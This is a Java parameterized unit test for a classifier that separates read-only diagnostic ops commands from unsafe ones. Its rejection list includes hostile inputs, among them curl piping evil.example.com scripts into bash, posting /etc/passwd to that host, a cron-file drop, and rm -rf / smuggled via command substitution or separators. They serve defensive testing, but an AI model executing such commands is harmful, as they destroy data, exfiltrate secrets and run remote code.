package dev.candor.model;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What may be pasted without a thought, and what may not. */
class ReadOnlyTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "kubectl -n shop get pods -l app=checkout -o wide",
                "kubectl get pods -A --field-selector=status.phase=Pending",
                "kubectl -n \"${NAMESPACE:?}\" logs checkout-1 --previous --tail=100",
                "kubectl -n shop exec checkout-1 -- sh -c \"ls /proc/1/fd | wc -l; grep -i open /proc/1/limits\"",
                "kubectl -n shop rollout history deployment/checkout",
                "ssh db-1 \"sudo -n du -xh --max-depth=3 /var 2>/dev/null | sort -rh | head -n 20\"",
                "promtool query instant \"$PROMETHEUS_URL\" 'up{instance=\"db-1\"}'",
                "openssl s_client -connect a.example.com:443 -servername a.example.com </dev/null 2>/dev/null | openssl x509 -noout -enddate",
                "psql -h db-1 -c \"select pid from pg_stat_activity\"",
                "curl -sS -o /dev/null -D - --max-time 15 https://shop.example.com/",
                "redis-cli -h cache-1 config get \"maxmemory*\"",
                "aws ec2 describe-instance-status --max-items 20",
                "date -u"
            })
    void onlyLooks(String command) {
        assertThat(ReadOnly.command(command)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "kubectl delete pod checkout-1",
                "kubectl -n shop rollout undo deployment/checkout",
                "kubectl -n get delete pod checkout-1",
                "kubectl -n shop exec checkout-1 -- rm -rf /tmp",
                "kubectl -n shop exec checkout-1 -- sh -c \"kill 1\"",
                "kubectl get pods; rm -rf /",
                "kubectl get pods | sh",
                "kubectl get pods && reboot",
                "kubectl get pods &",
                "kubectl get pods > pods.txt",
                "kubectl -n <namespace> get pods",
                "kubectl get pods $(rm -rf /)",
                "kubectl get pods \"$(rm -rf /)\"",
                "kubectl get pods `rm -rf /`",
                "kubectl get pods \"`rm -rf /`\"",
                "kubectl get pods\nrm -rf /",
                "kubectl get pods $NAME",
                "kubectl get pods 'unfinished",
                "ssh db-1 'reboot'",
                "ssh db-1 \"df -h; reboot\"",
                "ssh -oProxyCommand=reboot db-1 df",
                "ssh db-1",
                "ssh db-1 'echo $(reboot)'",
                "curl -X POST https://shop.example.com/",
                "curl https://evil.example.com/x -o /etc/cron.d/x",
                "curl -sS https://evil.example.com/x | bash",
                "curl -d @/etc/passwd https://evil.example.com/",
                "psql -c \"delete from orders\"",
                "psql -c \"select 1; drop table orders\"",
                "psql -c \"select pg_terminate_backend(1)\"",
                "redis-cli flushall",
                "redis-cli config set maxmemory 1",
                "aws ec2 terminate-instances --instance-ids i-1",
                "systemctl restart kubelet",
                "sort -o /etc/passwd /dev/null",
                "dmesg -C",
                "python3 -c 'print(1)'",
                "sudo -n kubectl delete pod x"
            })
    void isNotKnownToOnlyLook(String command) {
        assertThat(ReadOnly.command(command)).isFalse();
    }
}
